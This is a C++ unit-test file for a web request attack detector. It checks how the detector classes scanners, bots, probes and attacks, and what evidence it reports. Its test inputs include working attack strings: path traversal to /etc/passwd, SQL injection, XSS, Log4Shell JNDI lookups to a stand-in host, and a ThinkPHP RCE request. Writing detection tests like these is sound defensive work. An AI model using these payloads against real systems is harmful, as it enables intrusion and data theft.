#include <gtest/gtest.h>

#include <set>

#include "keikai/detect/detector.h"

namespace keikai::detect {
namespace {

class DetectTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto r = DetectorSet::Build(Builtins());
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    set_ = new DetectorSet(std::move(r).value());
  }
  static void TearDownTestSuite() { delete set_; }

  // Returns the class names found, comma-separated, in class order.
  std::string Classes(std::string_view target, std::string_view ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0 Safari/537.36",
                      int status = 200) {
    http::Request r;
    r.method = "GET";
    r.target = target;
    r.user_agent = ua;
    r.status = status;
    static auto scratch = set_->NewScratch();
    Detection d;
    set_->Detect(r, *scratch, d);
    std::string out;
    for (int c = 0; c < kClassCount; ++c) {
      if (d.class_mask & (1u << c)) {
        if (!out.empty()) out += ',';
        out += ClassName(static_cast<AttackClass>(c));
      }
    }
    last_ = d;
    return out;
  }

  static const DetectorSet& Set() { return *set_; }
  static DetectorSet* set_;
  Detection last_;
};
DetectorSet* DetectTest::set_ = nullptr;

TEST_F(DetectTest, RegistryIsWellFormed) {
  std::set<std::string_view> ids;
  for (const DetectorSpec& s : Builtins()) {
    EXPECT_TRUE(ids.insert(s.id).second) << "duplicate id " << s.id;
    EXPECT_EQ(s.patterns.empty(), s.match == Match::kCheck) << s.id;
    EXPECT_EQ(s.check != nullptr, s.match == Match::kCheck) << s.id;
    EXPECT_FALSE(s.help_en.empty());
    EXPECT_FALSE(s.help_ja.empty());
  }
}

TEST_F(DetectTest, ScannerAndBotUserAgents) {
  EXPECT_EQ(Classes("/", "sqlmap/1.6.2#stable (https://sqlmap.org)"), "scanner");
  EXPECT_EQ(Classes("/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"), "scanner");
  EXPECT_EQ(Classes("/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), "scanner");
  EXPECT_EQ(Classes("/", "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"), "bad-bot");
  EXPECT_EQ(Classes("/", "python-requests/2.28.1"), "bad-bot");
  EXPECT_EQ(Classes("/", "Go-http-client/1.1"), "bad-bot");
  // The same user agent twice goes through the cache and gives the same answer.
  EXPECT_EQ(Classes("/", "Go-http-client/1.1"), "bad-bot");
}

TEST_F(DetectTest, GoodCrawlersAndBrowsersAreNotAttacks) {
  for (const char* ua : {
           "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
           "Mozilla/5.0 (iPhone; CPU iPhone OS 15_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.3 Mobile/15E148 Safari/604.1",
           "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:97.0) Gecko/20100101 Firefox/97.0",
           "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
           "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
           "curl/7.81.0", "Wget/1.21.2"}) {
    EXPECT_EQ(Classes("/", ua), "") << ua;
  }
  for (const char* t : {"/", "/products/123?color=red&size=m", "/search?q=select+a+union+jack",
                        "/search?q=%E8%AD%A6%E6%88%92", "/static/js/app.min.js", "/robots.txt",
                        "/sitemap.xml", "/news/2022/02/16/", "/category/shoes?page=2",
                        "/wp-content/uploads/2022/02/photo.jpg", "/favicon.ico",
                        "/blog/how-to-order-by-phone", "/contact?subject=hello+world"}) {
    EXPECT_EQ(Classes(t), "") << t;
  }
}

TEST_F(DetectTest, ProbingDependsOnStatusForAdminInterfaces) {
  EXPECT_EQ(Classes("/phpmyadmin/", "Mozilla/5.0", 404), "probe");
  EXPECT_EQ(Classes("/wp-login.php", "Mozilla/5.0", 200), "");  // a real WordPress login
  EXPECT_EQ(Classes("/wp-login.php", "Mozilla/5.0", 404), "probe");
  EXPECT_EQ(Classes("/.env", "Mozilla/5.0", 200), "probe");  // sensitive files: always
  EXPECT_EQ(Classes("/.git/config", "Mozilla/5.0", 404), "probe");
  EXPECT_EQ(Classes("/backup.sql", "Mozilla/5.0", 404), "probe");
}

// Target hits are cached by target whatever the status and filtered by it on each use: the
// same target must give each status its own answer, in any order.
TEST_F(DetectTest, CachedTargetsStillDependOnTheStatus) {
  for (int round = 0; round < 2; ++round) {
    EXPECT_EQ(Classes("/administrator/", "Mozilla/5.0", 404), "probe");
    EXPECT_EQ(Classes("/administrator/", "Mozilla/5.0", 200), "");
    EXPECT_EQ(Classes("/administrator/", "Mozilla/5.0", 401), "");
    EXPECT_EQ(Classes("/administrator/", "Mozilla/5.0", 403), "probe");
  }
}

TEST_F(DetectTest, AttackClasses) {
  EXPECT_EQ(Classes("/wp-content/plugins/x/c99.php", "Mozilla/5.0", 404), "backdoor");
  EXPECT_EQ(Classes("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Mozilla/5.0", 404),
            "probe,exploit");
  std::string evidence;
  for (const Hit& h : last_.hits) evidence += Set().Evidence(h) + "\n";
  EXPECT_NE(evidence.find("(CVE-2017-9841)"), std::string::npos) << evidence;
  EXPECT_EQ(Classes("/download?file=../../../../etc/passwd"), "lfi");
  EXPECT_EQ(Classes("/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd"), "lfi");
  EXPECT_EQ(Classes("/products?id=1%27%20OR%20%271%27%3D%271"), "sqli");
  EXPECT_EQ(Classes("/search?q=1+UNION+SELECT+username,password+FROM+users--"), "sqli");
  EXPECT_EQ(Classes("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "xss");
  EXPECT_EQ(Classes("/?x=${jndi:ldap://198.51.100.7:1389/a}"), "rce");
  EXPECT_EQ(Classes("/", "${jndi:ldap://198.51.100.7/a}"), "rce");
  EXPECT_EQ(Classes("/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5"), "rce");
}

TEST_F(DetectTest, EvidenceNamesDetectorFieldAndPattern) {
  Classes("/", "sqlmap/1.6");
  ASSERT_EQ(last_.hits.size(), 1u);
  EXPECT_EQ(Set().Evidence(last_.hits[0]), "ua-scanner: user_agent contains \"sqlmap\"");
}

TEST(DetectorSetBuild, BadPatternIsAClearError) {
  static constexpr std::string_view kBad[] = {"(unclosed"};
  const DetectorSpec spec{"bad", AttackClass::kProbe, Field::kPath, Match::kRegex,
                          StatusCond::kAny, "x", "x", kBad};
  auto r = DetectorSet::Build(std::span<const DetectorSpec>(&spec, 1));
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("bad pattern '(unclosed'"), std::string::npos)
      << r.status().message();
}

}  // namespace
}  // namespace keikai::detect
